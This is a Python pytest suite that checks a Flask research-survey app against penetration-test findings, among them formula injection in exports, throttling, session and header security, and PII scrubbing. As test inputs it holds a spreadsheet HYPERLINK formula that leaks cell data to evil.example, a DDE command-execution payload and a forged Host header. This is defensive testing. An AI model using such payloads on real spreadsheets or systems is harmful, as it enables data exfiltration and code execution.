"""The findings of a penetration test, one test each, over the real app.

Also: security headers on every response, without overriding a view's own
choice, and the template sandbox seen from the studio.
"""

import csv
import html
import io
import os
import re
import stat
from datetime import UTC, datetime, timedelta

import pytest
from flask import make_response
from markupsafe import escape
from werkzeug.datastructures import MultiDict

from sprintlab import create_app
from sprintlab import db as store
from sprintlab.accounts import add_user
from sprintlab.cli import cli
from sprintlab.fieldwork import participation
from sprintlab.fieldwork.simulation import simulate_study
from sprintlab.web.security import CSP
from tests import studio_support
from tests.bot import Bot, forms, withdrawal_code
from tests.conftest import ROOT
from tests.evidence import app_rows as rows
from tests.sandbox_payloads import INJECTIONS, REFUSALS

PASSWORD = "lang-genoeg-1"
TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')


def add_account(app, name="onderzoeker", role="researcher", password=PASSWORD):
    db = store.open_db(app.config["DATABASE"])
    add_user(db, name, password, role)
    db.close()


def log_in(client, name="onderzoeker", password=PASSWORD, **environ):
    page = client.get("/login", environ_base=environ).get_data(as_text=True)
    data = {"csrf_token": TOKEN.search(page)[1], "name": name, "password": password}
    return client.post("/login", data=data, environ_base=environ)


def answer_in_free_text(app, content, texts, study_id="sprint-sms"):
    """One participant per text, each answering the first message with it."""
    db = store.open_db(app.config["DATABASE"])
    study = content.study(study_id)
    for text in texts:
        person = participation.start_participant(db, content, study, "nl")
        form = {
            f"q-{q.id}": {"likert7": "4", "yes_no": "no"}[q.type]
            for q in study.rated_questions
            if q.type in ("likert7", "yes_no")
        }
        form["q-change"] = text
        submitted = participation.submit_message(db, person, study, 0, MultiDict(form))
        assert submitted.stored and not submitted.errors
    db.close()


def take_part(client, study_id, text, seed=0, kiosk=False):
    """Walk the real pages as one participant writing TEXT; the thanks page."""
    bot = Bot(client, study_id, seed=seed)
    response = bot.consent(kiosk=kiosk)
    while True:
        location = response.headers["Location"]
        response = client.get(location)
        if response.status_code in (302, 303):
            continue
        html = response.get_data(as_text=True)
        if location.endswith("/thanks"):
            return html
        _, data = bot.answers_for(html, dont_know=0, text=text)
        response = client.post(location, data=data)
        assert response.status_code == 303, response.status_code


# --- 1. formula injection ---------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")'
FORMULAS = [FORMULA, "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]


def test_formulas_are_inert_in_every_spreadsheet_export_and_kept_in_json(
    app, client, content, runner, tmp_path
):
    take_part(client, "sprint-sms", FORMULA)
    answer_in_free_text(app, content, FORMULAS[1:])
    add_account(app)
    log_in(client)
    url = "/research/sprint-sms/export"
    long = list(csv.DictReader(io.StringIO(client.get(f"{url}.csv").text)))
    texts = {r["text"] for r in long if r["question"] == "change"}
    assert texts == {"'" + formula for formula in FORMULAS}
    numbers = {r["value"] for r in long if r["question"] != "change"}
    assert numbers <= set("01234567") | {"NA"}  # numbers stay numbers
    kept = {r["text"] for r in client.get(f"{url}.json").json if r["text"]}
    assert set(FORMULAS) <= kept
    import pyreadstat

    sav = tmp_path / "s.sav"
    sav.write_bytes(client.get(f"{url}.sav").data)
    frame, _ = pyreadstat.read_sav(str(sav))
    assert set(frame["change"]) - {""} == {"'" + formula for formula in FORMULAS}
    wide = tmp_path / "wide.csv"
    result = runner.invoke(
        cli,
        ["export", "sprint-sms", "--db", app.config["DATABASE"], "--format",
         "wide-csv", "--out", str(wide), "--content", str(ROOT)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    written = list(csv.DictReader(wide.open(encoding="utf-8")))
    assert {r["change"] for r in written} - {"NA"} == {"'" + f for f in FORMULAS}


# --- headers on every response ---------------------------------------------
def test_every_response_gets_the_headers(client):
    response = client.get("/s/sprint-sms")
    assert response.headers["Content-Security-Policy"] == CSP
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in response.headers


def test_a_header_a_view_set_itself_is_kept(app, client):
    @app.get("/_framed")
    def framed():
        response = make_response("")
        response.headers["x-frame-options"] = "SAMEORIGIN"
        return response

    response = client.get("/_framed")
    assert response.headers.getlist("X-Frame-Options") == ["SAMEORIGIN"]
    assert response.headers["Content-Security-Policy"] == CSP


def test_https_adds_strict_transport_security(client):
    response = client.get("/s/sprint-sms", base_url="https://localhost")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


# --- 8. chart labels are text, never maths ------------------------------------

HOSTILE_LABELS = ["$\\frac{1}{$", "$$", "$x^{$", "\\$ $\\sqrt{}$ $"]


def test_hostile_labels_are_drawn_as_text_on_the_dashboard(tmp_path):
    from tests.studio_support import copy_content

    content = copy_content(tmp_path / "content")
    study_file = content / "prototypes" / "sprint-sms.toml"
    text = study_file.read_text(encoding="utf-8")
    for old, new in zip(
        ["Baseline: neutral reminder of the help offer",
         "Tone: warm, first name and informal address",
         "Choice: you decide, doing nothing is fine",
         "A letter"],
        HOSTILE_LABELS, strict=True,
    ):  # fmt: skip
        text = text.replace(f'en = "{old}"', f"en = '{new}'")
    study_file.write_text(text, encoding="utf-8")
    app = create_app({"TESTING": True, "DATABASE": str(tmp_path / "m.db"),
                      "CONTENT_ROOT": str(content), "SECRET_KEY": "test",
                      "REPORT_WAIT_SECONDS": 60})  # fmt: skip
    found = app.extensions["sprintlab.content"]
    db = store.open_db(app.config["DATABASE"])
    simulate_study(db, found, found.study("sprint-sms"), 12, seed=3)
    db.close()
    client = app.test_client()
    add_account(app)
    log_in(client)
    response = client.get("/research/sprint-sms")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    for label in HOSTILE_LABELS[:3]:
        assert str(escape(label)) in page
    assert page.count("<svg") >= 2


# --- 7. nothing personal is cached --------------------------------------------

NO_STORE_PAGES = [
    "/research/", "/research/sprint-sms", "/research/sprint-sms/export.csv",
    "/research/sprint-sms/export.json", "/research/sprint-sms/export.sav",
    "/studio/", "/s/sprint-sms/next", "/s/sprint-sms/thanks", "/withdraw", "/login",
]  # fmt: skip


def test_personal_pages_and_downloads_are_never_stored(app, client, content):
    answer_in_free_text(app, content, ["Duidelijk."])
    add_account(app, "beheerder", "admin")
    log_in(client, "beheerder")
    take_part(client, "sprint-sms", "Prima.")
    for url in NO_STORE_PAGES:
        response = client.get(url)
        assert response.status_code in (200, 303), url
        assert response.headers["Cache-Control"] == "no-store", url
    assert "no-store" not in client.get("/static/sprintlab.css").headers.get(
        "Cache-Control", ""
    )


# --- 12. the evidence store is the owner's only --------------------------------


def test_database_and_its_wal_are_created_owner_only(tmp_path, content):
    old_umask = os.umask(0o022)  # the usual default, which made them 0644
    try:
        app = create_app({"TESTING": True, "DATABASE": str(tmp_path / "new.db"),
                          "CONTENT_ROOT": str(ROOT), "SECRET_KEY": "test"})  # fmt: skip
        client = app.test_client()
        take_part(client, "sprint-sms", "Duidelijk.")
    finally:
        os.umask(old_umask)
    for suffix in ("", "-wal", "-shm"):
        path = tmp_path / f"new.db{suffix}"
        assert path.exists(), suffix
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, suffix


# --- 14. the gallery shows anonymous visitors open studies only ----------------


def test_paused_studies_and_draft_templates_need_a_login(app, client):
    db = store.open_db(app.config["DATABASE"])
    store.set_study_state(db, "sprint-sms", "paused", "beheerder", store.now())
    db.close()
    index = client.get("/").get_data(as_text=True)
    assert "/gallery/vroegsignalering" in index
    assert "/gallery/sprint-sms" not in index and "sms/coach" not in index
    assert "email/controle" not in index  # shown by no study: a draft
    hidden = ["/gallery/sprint-sms", "/gallery/sprint-sms/qr",
              "/gallery/template/sms/coach",
              "/gallery/template/email/controle"]  # fmt: skip
    for url in hidden:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response.headers["Location"].startswith("/login?next="), url
    assert client.get("/gallery/template/poster/bushalte").status_code == 200
    add_account(app)
    log_in(client)
    assert "/gallery/sprint-sms" in client.get("/").get_data(as_text=True)
    assert all(client.get(url).status_code == 200 for url in hidden)


# --- 5. HTTPS behind a trusted proxy ------------------------------------------

BEHIND_PROXY = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9",
                "X-Forwarded-Host": "onderzoek.example.nl"}  # fmt: skip


def proxied_app(tmp_path, **config):
    return create_app(
        {"TESTING": True, "DATABASE": str(tmp_path / "p.db"), "CONTENT_ROOT": str(ROOT),
         "SECRET_KEY": "test", "PUBLIC_URL": "https://onderzoek.example.nl",
         "TRUSTED_PROXIES": 1, **config}
    )  # fmt: skip


def test_behind_an_https_proxy_every_cookie_is_secure_and_hsts_is_sent(tmp_path):
    app = proxied_app(tmp_path)
    add_account(app)
    client = app.test_client()
    # The proxy's scheme, host and the page a form came from (flask-wtf checks
    # the Referer on HTTPS).
    public = "https://onderzoek.example.nl"
    via = {"base_url": public, "headers": {**BEHIND_PROXY, "Referer": public + "/"}}
    page = client.get("/s/sprint-sms/consent", **via)
    assert page.headers["Strict-Transport-Security"] == "max-age=31536000"
    cookies = page.headers.getlist("Set-Cookie")  # the session, with the CSRF token
    assert cookies and all("; Secure" in cookie for cookie in cookies)
    form = forms(page.get_data(as_text=True))[0]
    yes = dict(form["hidden"], decision="yes")
    consent = client.post(form["action"], data=yes, **via)
    assert consent.status_code == 303
    participant = [c for c in consent.headers.getlist("Set-Cookie") if "sl-" in c]
    assert participant and "; Secure" in participant[0]
    page = client.get("/login", **via).get_data(as_text=True)
    data = {"csrf_token": TOKEN.search(page)[1], "name": "onderzoeker",
            "password": PASSWORD}  # fmt: skip
    login = client.post("/login", data=data, **via)
    assert login.status_code == 303
    assert all("; Secure" in c for c in login.headers.getlist("Set-Cookie"))


@pytest.mark.server
def test_serve_reads_the_public_url_and_proxies_from_the_environment(
    tmp_path, monkeypatch
):
    import http.client

    from tests.server import ServerProcess

    monkeypatch.setenv("SPRINTLAB_PUBLIC_URL", "https://onderzoek.example.nl")
    monkeypatch.setenv("SPRINTLAB_TRUSTED_PROXIES", "1")
    with ServerProcess(tmp_path / "env.db", content_root=ROOT) as server:
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        connection.request("GET", "/s/sprint-sms/consent", headers=BEHIND_PROXY)
        response = connection.getresponse()
        response.read()
        qr = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        qr.request("GET", "/gallery/sprint-sms/qr")
        page = qr.getresponse().read().decode()
    assert response.getheader("Strict-Transport-Security") == "max-age=31536000"
    assert "; Secure" in response.getheader("Set-Cookie")
    assert "https://onderzoek.example.nl/s/sprint-sms" in page


# --- 6. the Host header is not trusted ----------------------------------------


def test_a_forged_host_gets_400_and_never_a_link_to_it(client):
    for url in ("/gallery/sprint-sms/qr", "/s/sprint-sms", "/login"):
        response = client.get(url, headers={"Host": "evil.example"})
        assert response.status_code == 400, url
        assert "evil.example" not in response.get_data(as_text=True)
        assert "Dit adres kennen wij niet" in response.get_data(as_text=True)
    assert client.get("/gallery/sprint-sms/qr").status_code == 200


def test_participant_links_come_from_the_public_url(tmp_path):
    app = proxied_app(tmp_path, TRUSTED_PROXIES=0)
    seen = []

    @app.get("/_who")
    def who():
        from flask import request

        seen.append((request.remote_addr, request.host))
        return ""

    client = app.test_client()
    page = client.get("/gallery/sprint-sms/qr", headers=BEHIND_PROXY).text
    assert 'href="https://onderzoek.example.nl/s/sprint-sms"' in page
    assert "http://localhost/s/" not in page
    # No proxy is trusted here, so its headers name no client and no host.
    client.get("/_who", headers={**BEHIND_PROXY, "X-Forwarded-Host": "evil.example"})
    assert seen == [("127.0.0.1", "localhost")]


# --- 2. login throttling that no one else can trip -----------------------------


def from_client(address):
    """Request options for a client behind the one trusted proxy."""
    return {"headers": {"X-Forwarded-For": address}}


def throttled_app(tmp_path):
    return proxied_app(tmp_path, PUBLIC_URL=None, TRUSTED_PROXIES=1)


def try_login(client, name, password, address):
    page = client.get("/login", **from_client(address)).get_data(as_text=True)
    data = {"csrf_token": TOKEN.search(page)[1], "name": name, "password": password}
    return client.post("/login", data=data, **from_client(address))


def test_others_failures_never_lock_a_user_out(tmp_path):
    app = throttled_app(tmp_path)
    add_account(app)
    client = app.test_client()
    attacker = [try_login(client, "onderzoeker", f"fout-{n}", "203.0.113.66")
                for n in range(12)]  # fmt: skip
    assert [r.status_code for r in attacker] == [401] * 5 + [429] * 7
    assert int(attacker[-1].headers["Retry-After"]) > 0
    assert "Te veel pogingen" in attacker[-1].get_data(as_text=True)
    own = try_login(app.test_client(), "onderzoeker", PASSWORD, "203.0.113.7")
    assert own.status_code == 303


def test_the_wait_grows_with_every_failure(tmp_path, monkeypatch):
    from datetime import UTC, datetime, timedelta

    from sprintlab.web import throttling

    clock = [datetime(2026, 11, 28, 12, 0, tzinfo=UTC)]
    monkeypatch.setattr(throttling, "_now", lambda: clock[0])
    app = throttled_app(tmp_path)
    add_account(app)
    client = app.test_client()
    statuses = [try_login(client, "onderzoeker", "fout", "203.0.113.5").status_code
                for _ in range(5)]  # fmt: skip
    assert statuses == [401] * 5
    waits = []
    for _ in range(3):
        refused = try_login(client, "onderzoeker", PASSWORD, "203.0.113.5")
        assert refused.status_code == 429  # not even the password is checked
        waits.append(int(refused.headers["Retry-After"]))
        clock[0] += timedelta(seconds=waits[-1])
        again = try_login(client, "onderzoeker", "fout", "203.0.113.5")
        assert again.status_code == 401
    assert waits == [15, 30, 60]
    clock[0] += timedelta(seconds=120)
    assert try_login(client, "onderzoeker", PASSWORD, "203.0.113.5").status_code == 303


def test_a_client_trying_many_names_runs_out_of_attempts(tmp_path):
    app = throttled_app(tmp_path)
    client = app.test_client()
    statuses = [try_login(client, f"naam-{n}", "fout", "203.0.113.9").status_code
                for n in range(32)]  # fmt: skip
    assert statuses == [401] * 30 + [429] * 2
    assert try_login(client, "naam-x", "fout", "203.0.113.10").status_code == 401


@pytest.mark.server
def test_parallel_guesses_cannot_slip_past_the_count(tmp_path):
    import threading

    from tests.http_bot import HttpParticipant
    from tests.server import ServerProcess

    database = tmp_path / "race.db"
    db = store.open_db(database)
    add_user(db, "onderzoeker", PASSWORD, "researcher")
    db.close()
    with ServerProcess(database, content_root=ROOT) as server:
        people = [HttpParticipant(server.url, "sprint-sms") for _ in range(16)]
        forms_sent = []
        for person in people:
            token = TOKEN.search(person.request("GET", "/login").text)[1]
            forms_sent.append({"csrf_token": token, "name": "onderzoeker",
                               "password": "fout-wachtwoord"})  # fmt: skip
        start, statuses = threading.Barrier(len(people)), []

        def guess(person, form):
            start.wait()
            statuses.append(person.request("POST", "/login", form).status)

        threads = [threading.Thread(target=guess, args=pair)
                   for pair in zip(people, forms_sent, strict=True)]  # fmt: skip
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        for person in people:
            person.close()
    assert sorted(statuses) == [401] * 5 + [429] * 11


# --- 3. unknown and known names cost the same -----------------------------------


def test_an_unknown_name_costs_as_much_as_a_wrong_password(app, client, monkeypatch):
    import hashlib

    add_account(app)
    real, calls = hashlib.scrypt, []

    def counted(*args, **kwargs):
        calls.append(kwargs.get("n"))
        return real(*args, **kwargs)

    monkeypatch.setattr(hashlib, "scrypt", counted)
    work = {}
    for name in ("onderzoeker", "niemand-bekends"):
        calls.clear()
        assert log_in(client, name, "fout-wachtwoord-12").status_code == 401
        work[name] = list(calls)
    from sprintlab.accounts import PASSWORD_METHOD

    one_scrypt = [int(PASSWORD_METHOD.split(":")[1])]
    assert work["onderzoeker"] == work["niemand-bekends"] == one_scrypt


# --- 4. logging out ends the session ---------------------------------------------


def session_cookie(client):
    return client.get_cookie("session").value


def test_a_session_cookie_copied_before_logout_opens_nothing_after(app, client):
    add_account(app)
    log_in(client)
    copied = session_cookie(client)
    assert client.get("/research/").status_code == 200
    page = client.get("/research/").get_data(as_text=True)
    client.post("/logout", data={"csrf_token": TOKEN.search(page)[1]})
    replay = app.test_client()
    replay.set_cookie("session", copied)
    response = replay.get("/research/")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


def test_a_new_password_ends_every_session(app, client, runner):
    add_account(app)
    log_in(client)
    assert client.get("/research/").status_code == 200
    result = runner.invoke(
        cli, ["users", "password", "onderzoeker", "--db", app.config["DATABASE"]],
        input="een-heel-nieuw-wachtwoord\neen-heel-nieuw-wachtwoord\n",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert client.get("/research/").status_code == 302
    assert log_in(client, password="een-heel-nieuw-wachtwoord").status_code == 303


# --- 13. passwords and names ------------------------------------------------------


@pytest.mark.parametrize(
    "password",
    ["kort-maar", "aaaaaaaaaaaa", "abcdefghijklmnop", "123456789012",
     "password1234", "qwertyuiop12", "wachtwoord123", "onderzoeker2026"],
)  # fmt: skip
def test_short_common_and_repetitive_passwords_are_refused(runner, tmp_path, password):
    path = tmp_path / "p.db"
    result = runner.invoke(
        cli, ["users", "add", "onderzoeker", "--role", "researcher", "--db", str(path),
              "--password-file", "-"], input=password + "\n",
    )  # fmt: skip
    assert result.exit_code == 1
    assert "Error: " in result.output and "password" in result.output
    db = store.open_db(path)
    assert store.users(db) == []
    db.close()


def test_passwords_come_from_a_prompt_or_a_file_never_the_command_line(
    runner, tmp_path
):
    path = str(tmp_path / "p.db")
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("kastanje-regen-fiets\n")
    added = runner.invoke(
        cli, ["users", "add", "sanne", "--role", "designer", "--db", path,
              "--password-file", str(secret_file)],
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    prompted = runner.invoke(
        cli, ["users", "add", "ahmed", "--role", "designer", "--db", path],
        input="zomer-2026-fiets\nzomer-2026-fiets\n",
    )  # fmt: skip
    assert prompted.exit_code == 0 and "zomer" not in prompted.output
    on_the_line = runner.invoke(
        cli, ["users", "add", "kim", "--role", "designer", "--db", path,
              "--password", "zomer-2026-fiets"],
    )  # fmt: skip
    assert on_the_line.exit_code == 2 and "No such option" in on_the_line.output


def test_old_hashes_are_replaced_at_login(app, client):
    import hashlib
    import secrets

    salt = secrets.token_bytes(16)
    digest = hashlib.scrypt(PASSWORD.encode(), salt=salt, n=2**14, r=8, p=1, dklen=32)
    old = f"scrypt$16384$8$1${salt.hex()}${digest.hex()}"
    db = store.open_db(app.config["DATABASE"])
    store.insert_user(db, "onderzoeker", old, "researcher", store.now())
    db.close()
    assert log_in(client).status_code == 303
    (stored,) = rows(app, "SELECT password_hash FROM users")[0]
    from sprintlab.accounts import PASSWORD_METHOD

    assert stored.startswith(PASSWORD_METHOD + "$")
    assert log_in(app.test_client()).status_code == 303


def test_full_width_look_alike_names_cannot_sit_beside_real_ones(app, client, runner):
    add_account(app, "sanne")
    result = runner.invoke(
        cli, ["users", "add", "ｓａｎｎｅ", "--role", "admin", "--db",
              app.config["DATABASE"], "--password-file", "-"],
        input="kastanje-regen-fiets\n",
    )  # fmt: skip
    assert result.exit_code == 1 and "already" in result.output
    assert len(rows(app, "SELECT id FROM users")) == 1
    assert log_in(client, "ＳＡＮＮＥ").status_code == 303


# --- 11. anti-automation on consent and withdrawal --------------------------------

CODE = re.compile(r"[A-Z2-9]{4}(?:-[A-Z2-9]{4}){3}")


def test_consents_from_one_client_have_a_budget(tmp_path):
    app = proxied_app(tmp_path, PUBLIC_URL=None, TRUSTED_PROXIES=0,
                      RATE_BUDGETS={"consent": (5, 600)})  # fmt: skip
    statuses = [Bot(app.test_client(), "sprint-sms").consent().status_code
                for _ in range(7)]  # fmt: skip
    assert statuses == [303] * 5 + [429] * 2
    assert len(rows(app, "SELECT id FROM participants")) == 5  # none from a refusal
    refused = Bot(app.test_client(), "sprint-sms").consent()
    assert "Te veel pogingen" in refused.text and int(refused.headers["Retry-After"])
    other = app.test_client()
    other.environ_base["REMOTE_ADDR"] = "203.0.113.20"
    assert Bot(other, "sprint-sms").consent().status_code == 303


def withdraw(client, code):
    page = client.get("/withdraw").get_data(as_text=True)
    return client.post("/withdraw", data=dict(forms(page)[0]["hidden"], code=code))


def test_withdrawal_codes_carry_80_bits_and_hit_and_miss_look_alike(app, client):
    thanks = take_part(client, "sprint-sms", "Duidelijk.")
    code = withdrawal_code(thanks)
    assert CODE.fullmatch(code), code  # 16 of 32 characters: 80 bits
    miss = withdraw(client, "ABCD-EFGH-JKLM-NPQR")
    hit = withdraw(client, code.lower().replace("-", " "))
    assert miss.status_code == hit.status_code == 200
    from sprintlab.i18n import translate

    unknown, done = (translate(k, "nl") for k in ("withdraw_unknown", "withdraw_done"))

    def shape(page, sentence):  # the CSRF token is signed with the time: drop it
        return TOKEN.sub("", page.text.replace(sentence, ""))

    assert shape(miss, unknown) == shape(hit, done)
    assert rows(app, "SELECT count(*) FROM answers") == [(0,)]


def test_guessing_withdrawal_codes_is_throttled_hard(app, client):
    take_part(client, "sprint-sms", "Duidelijk.")
    (code,) = rows(app, "SELECT withdrawal_code FROM participants")[0]
    statuses = [withdraw(client, f"AAAA-AAAA-AAAA-AA{n:02}").status_code
                for n in range(10)]  # fmt: skip
    assert statuses == [200] * 10
    refused = withdraw(client, code)
    assert refused.status_code == 429 and "Te veel pogingen" in refused.text
    assert rows(app, "SELECT count(*) FROM answers")[0][0] > 0  # nothing deleted


# --- 9. kiosk hand-off ----------------------------------------------------------


def test_a_finished_kiosk_participant_is_never_resumed_and_their_code_never_shown_again(
    app, client
):
    thanks = take_part(client, "sprint-sms", "Duidelijk.", kiosk=True)
    code = withdrawal_code(thanks)
    assert code
    # The person walks away without "Volgende deelnemer"; say the browser kept
    # the cookie anyway.
    (token,) = rows(app, "SELECT token FROM participants")[0]
    from sprintlab.web.participant_session import signed_cookie

    with app.test_request_context():
        kept = signed_cookie(token)
    client.set_cookie("sl-sprint-sms", kept, path="/s/sprint-sms")
    again = client.get("/s/sprint-sms/thanks")
    assert again.status_code == 410 and code not in again.text
    Bot(client, "sprint-sms").consent(kiosk=True)  # the next person
    assert len(rows(app, "SELECT id FROM participants")) == 2
    assert code not in client.get("/s/sprint-sms/thanks", follow_redirects=True).text


def test_an_idle_kiosk_participant_is_not_resumed_on_the_device(app, client):
    bot = Bot(client, "sprint-sms", seed=2)
    first = bot.consent(kiosk=True)
    page = client.get(first.headers["Location"])
    _, data = bot.answers_for(page.text, dont_know=0)
    assert client.post(page.request.path, data=data).status_code == 303
    # Eleven minutes without an answer or a new page.
    db = store.open_db(app.config["DATABASE"])
    past = store.now(datetime.now(UTC) - timedelta(minutes=11))
    db.execute("UPDATE participants SET last_seen_at = ?", [past])
    db.execute("UPDATE assignments SET shown_at = ? WHERE shown_at IS NOT NULL", [past])
    db.close()
    assert client.get("/s/sprint-sms/next").status_code == 410
    Bot(client, "sprint-sms", seed=3).consent(kiosk=True)
    assert len(rows(app, "SELECT id FROM participants")) == 2
    # On a person's own device (no kiosk) a break changes nothing.
    own = app.test_client()
    Bot(own, "sprint-sms", seed=4).consent()
    db = store.open_db(app.config["DATABASE"])
    db.execute("UPDATE participants SET last_seen_at = ? WHERE kiosk = 0", [past])
    db.close()
    assert own.get("/s/sprint-sms/next").status_code == 303


# --- 10. scrubbing gaps ------------------------------------------------------------

LEAKS = {
    "bsn111222333": "BSN", "BSN 111-222-333": "BSN",
    "NL91-ABNA-0417-1643-00": "IBAN", "3511AB12": "ADRES", "3511 ab 12": "ADRES",
    "0 6 1 2 3 4 5 6 7 8": "TELEFOON",
    "０６１２３４５６７８": "TELEFOON", "jan [at] example [dot] nl": "E-MAIL",
}  # fmt: skip


def stored_free_texts(app):
    sql = "SELECT text FROM answers WHERE question_id = 'change' AND text IS NOT NULL"
    return {text for (text,) in rows(app, sql)}


@pytest.mark.parametrize("leak", LEAKS)
def test_separated_and_disguised_identifiers_are_never_stored(app, client, leak):
    take_part(client, "sprint-sms", f"Dit is van mij: {leak} .")
    (stored,) = stored_free_texts(app)
    # The identifier goes; a word right before it may stay ("bsn[BSN]").
    assert re.fullmatch(rf"Dit is van mij: (?:bsn|BSN )?\[{LEAKS[leak]}\] \.", stored)


def test_control_and_bidi_characters_are_never_stored(app, client):
    take_part(client, "sprint-sms", "Goed\x00 bericht \u202eneeb\u202c, echt\u2066.")
    assert stored_free_texts(app) == {"Goed bericht neeb, echt."}


# --- the sandbox, seen from the studio ---------------------------------------


@pytest.fixture
def studio_designer(tmp_path):
    app = studio_support.studio_app(tmp_path)
    client = app.test_client()
    studio_support.log_in(client, "designer")
    return client


@pytest.mark.parametrize("payload", INJECTIONS)
def test_the_live_preview_refuses_template_injection(studio_designer, payload):
    token = studio_support.csrf(studio_designer, "/studio/t/sms/coach?lang=nl")
    front = 'channel = "sms"\nsender = "Gemeente"\nlanguage = "nl"\ndescription = "x"'
    response = studio_designer.post(
        "/studio/t/sms/coach/preview",
        data={"lang": "nl", "front": front, "body": f"Hallo,\n{payload}\n"},
        headers={"X-CSRFToken": token},
    )
    page = html.unescape(response.get_data(as_text=True))
    assert "This template cannot be shown" in page
    assert "Message text, line 2" in page
    assert any(word in page.lower() for word in REFUSALS), page[:600]
    assert "<class" not in page and "environ(" not in page and "uid=" not in page
